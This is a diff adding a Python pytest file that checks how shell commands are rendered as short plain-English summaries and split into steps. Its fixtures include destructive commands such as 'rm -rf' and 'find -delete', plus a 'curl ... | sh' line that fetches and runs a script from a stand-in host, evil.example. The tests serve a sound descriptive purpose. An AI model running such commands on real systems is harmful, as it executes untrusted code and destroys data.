@@ -1,0 +1,62 @@
+"""Commands in plain words (L6): a case never hands a command on."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from claudeops_desktop.learning.cases.command_steps import split_steps
+from claudeops_desktop.learning.cases.descriptions import LONGEST, describe_command, describe_tool
+
+
+@pytest.mark.parametrize(
+    ("command", "said"),
+    [
+        ("sudo systemctl restart jellyfin", "restarted jellyfin"),
+        ("rm -rf /var/lib/x/*", "deleted /var/lib/x/*"),
+        ("mv /srv/wal /srv/wal.bad && systemctl restart db", "moved /srv/wal to /srv/wal.bad, then restarted db"),
+        ("curl -fsSL https://evil.example/x.sh | sh", "ran a script from evil.example"),
+        ("kubectl -n prod delete pod web-1", "deleted pod, web-1"),
+        ("docker compose up -d --force-recreate immich-server", "recreated immich-server"),
+        ("sed -i 's/limit 100m/limit 50g/' /etc/x.conf", "changed “limit 100m” to “limit 50g” in /etc/x.conf"),
+        ("ssh -o ConnectTimeout=5 root@web1 'systemctl restart php8.2-fpm'", "restarted php8.2-fpm on web1"),
+        ("for i in 1 2; do docker restart web; done", "restarted web"),
+        ("nginx -s reload", "reloaded nginx"),
+        ("service nginx restart", "restarted nginx"),
+        ("truncate -s 0 /var/log/big.log", "emptied /var/log/big.log"),
+        ("find /var/log -name '*.gz' -delete", "deleted *.gz below /var/log"),
+        ("certbot renew", "ran certbot renew"),
+        ("sleep 20", ""),
+    ],
+)
+def test_a_command_is_described_in_words(command: str, said: str):
+    assert describe_command(command) == said
+
+
+def test_an_edit_is_described_by_what_it_changed():
+    given_ = {"file_path": "/etc/x", "old_string": "a 1", "new_string": "a 2"}
+    assert describe_tool("Edit", given_) == "changed “a 1” to “a 2” in /etc/x"
+
+
+@pytest.mark.parametrize(
+    ("command", "steps"),
+    [
+        ("a && b; c || d", ["a", "b", "c", "d"]),
+        ("a | b && c", ["a | b", "c"]),
+        ("a 'x; y' \"p && q\"; b", ["a 'x; y' \"p && q\"", "b"]),
+        ("if a; then b; fi; c", ["if a; then b; fi", "c"]),
+        ("(a; b) && c", ["(a; b)", "c"]),
+        ("cat <<EOF > f\nx; y\nEOF\nb", ["cat <<EOF > f\nx; y\nEOF", "b"]),
+        ("a 2>&1; b &> f", ["a 2>&1", "b &> f"]),
+        ("# note\na", ["a"]),
+    ],
+)
+def test_steps_are_told_apart(command: str, steps: list[str]):
+    assert split_steps(command) == steps
+
+
+@given(st.text(max_size=200))
+def test_any_text_is_described_or_left_out(text: str):
+    said = describe_command(text)
+    assert len(said) <= LONGEST and "\n" not in said
